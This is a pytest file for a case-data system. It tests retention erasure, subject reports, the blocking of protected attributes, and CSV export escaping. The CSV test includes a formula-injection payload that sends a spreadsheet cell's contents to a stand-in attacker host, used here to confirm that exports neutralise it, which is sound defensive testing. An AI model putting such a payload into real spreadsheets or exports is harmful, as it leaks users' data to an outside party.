"""Retention erases what is past its period and records it without the erased data;
a subject report shows what is held and who consulted it; protected attributes."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, update

from casegraph.access.context import AccessContext
from casegraph.access.protected import ProtectedAttribute, check_fields
from casegraph.service import Workspace
from casegraph.store import ledger
from casegraph.store.tables import resolve_pending, resolve_records, statements
from tests.conftest import add_source, person_mapping


def load(workspace: Workspace, ctx: AccessContext, folder: Path) -> None:
    (folder / "p.csv").write_text("id,name\n1,Anna Maier\n2,Olga Petrova\n")
    (folder / "p.yml").write_text(person_mapping("people", "p.csv", name="name"))
    with workspace.session(ctx) as s:
        add_source(s, "people")
        s.ingest.mapping(folder / "p.yml")


def count(workspace: Workspace) -> int:
    with workspace.engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(statements)).scalar_one())


def kept_features(workspace: Workspace) -> str:
    with workspace.engine.connect() as conn:
        return " ".join(f or "" for f in conn.execute(select(resolve_records.c.features)).scalars())


def pending(workspace: Workspace) -> set[str]:
    with workspace.engine.connect() as conn:
        return set(conn.execute(select(resolve_pending.c.entity_id)).scalars())


def test_retention_run(workspace: Workspace, ctx: AccessContext, tmp_path: Path) -> None:
    load(workspace, ctx, tmp_path)
    with workspace.session(ctx) as s:
        s.resolve.run()  # resolution keeps each record's standardised features
    assert "anna" in kept_features(workspace)
    old = datetime.now() - timedelta(days=400)  # the test source keeps data 365 days
    with workspace.engine.begin() as conn:
        conn.execute(
            update(statements).where(statements.c.value == "Anna Maier").values(last_seen=old)
        )
    with workspace.session(ctx) as s:
        planned = s.retention.run(dry_run=True)
    assert [p["statements"] for p in planned] == [1] and count(workspace) == 4
    with workspace.session(ctx) as s:
        done = s.retention.run()
    assert done[0]["source"] == "people" and done[0]["statements"] == 1
    assert count(workspace) == 3
    with workspace.engine.connect() as conn:
        erasure = [e for e in ledger.iter_entries(conn) if e.action == "erasure"]
    assert len(erasure) == 1
    assert "Anna" not in json.dumps(erasure[0].refs)  # the ledger never holds erased data
    assert "anna" not in kept_features(workspace) and "olga" in kept_features(workspace)
    # the erased entity is read again by the next run: it keeps no name to resolve by
    assert len(pending(workspace)) == 1
    with workspace.session(ctx) as s:
        assert s.resolve.run().skipped == 1
    assert pending(workspace) == set() and "anna" not in kept_features(workspace)
    with workspace.session(ctx) as s:
        assert s.retention.run() == []


def test_subject_report(workspace: Workspace, ctx: AccessContext, tmp_path: Path) -> None:
    load(workspace, ctx, tmp_path)
    with workspace.engine.connect() as conn:
        anna = conn.execute(
            select(statements.c.entity_id).where(statements.c.value == "Anna Maier")
        ).scalar_one()
    with workspace.session(ctx) as s:
        s.subjects.profile(anna)
    with workspace.session(ctx) as s:
        report = s.subjects.report(anna)
    assert report["subject"]["caption"] == "Anna Maier"
    assert [c["action"] for c in report["consultations"]] == ["profile.view", "profile.view"]
    assert report["consultations"][0]["justification"] == ctx.justification


def test_protected_attributes_are_refused() -> None:
    check_fields(["name", "country"])
    with pytest.raises(ProtectedAttribute, match="religion is a protected attribute"):
        check_fields(["name", "religion"])
    with pytest.raises(ProtectedAttribute, match="ethnicity, political"):
        check_fields(["political", "ethnicity"])


def test_protected_attributes_come_from_settings(workspace: Workspace, ctx: AccessContext) -> None:
    with workspace.session(ctx) as s:
        s.check_filter_fields(["country"])
        with pytest.raises(ProtectedAttribute, match="health"):
            s.check_filter_fields(["health"])
    workspace.settings.protected_attributes = frozenset({"country"})
    with workspace.session(ctx) as s, pytest.raises(ProtectedAttribute, match="country"):
        s.check_filter_fields(["country"])


def test_csv_report_cells_never_start_a_formula(workspace: Workspace, ctx: AccessContext) -> None:
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"Open the case file")'
    for start in (payload, "+1 for the tip line, see report 17", "@SUM(1+1) in the report 17"):
        with workspace.session(replace(ctx, actor="-tester", justification=start)) as s:
            s.sources.list_visible()
            s.record("search", {"q": "-1+1"})
    with workspace.session(ctx) as s:
        out = io.StringIO()
        s.ledger.report(out, "csv", kind="consultations")
        s.ledger.report(as_json := io.StringIO(), "json", kind="consultations")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["justification"] for r in rows] == [
        "'" + payload,
        "'+1 for the tip line, see report 17",
        "'@SUM(1+1) in the report 17",
    ]
    assert {r["actor"] for r in rows} == {"'-tester"}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for r in rows for cell in r.values() if cell.startswith(dangerous)]
    # JSON lines are data for programs: kept as they were written
    assert json.loads(as_json.getvalue().splitlines()[0])["justification"] == payload
